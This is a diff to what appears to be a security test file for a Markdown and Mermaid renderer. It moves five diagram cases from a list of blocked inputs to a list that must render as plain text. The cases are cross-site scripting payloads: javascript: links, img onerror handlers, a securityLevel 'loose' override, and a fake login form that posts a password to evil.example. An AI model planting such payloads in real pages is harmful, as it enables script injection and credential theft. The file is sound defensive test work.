@@ -88,14 +88,6 @@ const stopped: Record<string, string> = {
   'a form that sends to a script': '<form action="javascript:alert(1)"><button>Text</button></form>',
   'a button that sends to a script': '<form><button formaction="javascript:alert(1)">Text</button></form>',
   // Diagrams, formulas, and code
-  'a diagram that links to a script':
-    '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a href "javascript:alert(1)"\n```',
-  'a diagram that calls a function': '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a call alert(1)\n```',
-  'a diagram with markup in a label': '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n```',
-  'a diagram that asks to be trusted':
-    '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n  click a href "javascript:alert(1)"\n```',
-  'a diagram with a form in a label':
-    '```mermaid\nflowchart LR\n  a["<form action=\'https://evil.example/\'><input name=password><button>Log in</button></form>"] --> b\n```',
   'a diagram with an image from elsewhere': '```mermaid\nflowchart LR\n  a@{ img: "https://evil.example/a.png" }\n```',
   'a diagram that links elsewhere': '```mermaid\nflowchart LR\n  a\n  click a href "https://evil.example/"\n```',
   'a formula that covers the page':
@@ -129,7 +121,10 @@ const stopped: Record<string, string> = {
   'code spread into a component': '<Video {...globalThis} />',
 };
 
-/** Texts that look like an attack but are not markup in Markdown; they must stay text. */
+/**
+ * Texts that look like an attack but are not markup in Markdown; they must stay text. The rules about diagrams refuse some,
+ * too; a build without these rules shows what browsers make of them.
+ */
 const text: Record<string, string> = {
   'an expression in the source of a chart':
     '```chart\nform: bars\ntitle: A\nsentence: B\nsource: "[C](/docs/intro) {alert(1)}"\nx: D\ny: E\ndata: |\n  D,E\n  1,a\n  2,b\n```',
@@ -146,6 +141,14 @@ const text: Record<string, string> = {
   'a link that is a script, after a sign that Markdown replaces': '[Text](&#1;javascript:alert%281%29)',
   'a heading whose anchor ends early': '## Text" onclick="alert(1)',
   'a formula of another language': '$\\{alert(1)}',
+  'a diagram that links to a script':
+    '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a href "javascript:alert(1)"\n```',
+  'a diagram that calls a function': '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a call alert(1)\n```',
+  'a diagram with markup in a label': '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n```',
+  'a diagram that asks to be trusted':
+    '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n  click a href "javascript:alert(1)"\n```',
+  'a diagram with a form in a label':
+    '```mermaid\nflowchart LR\n  a["<form action=\'https://evil.example/\'><input name=password><button>Log in</button></form>"] --> b\n```',
 };
 
 const list = (of: Record<string, string>, onPage: Attack['onPage']): Attack[] =>
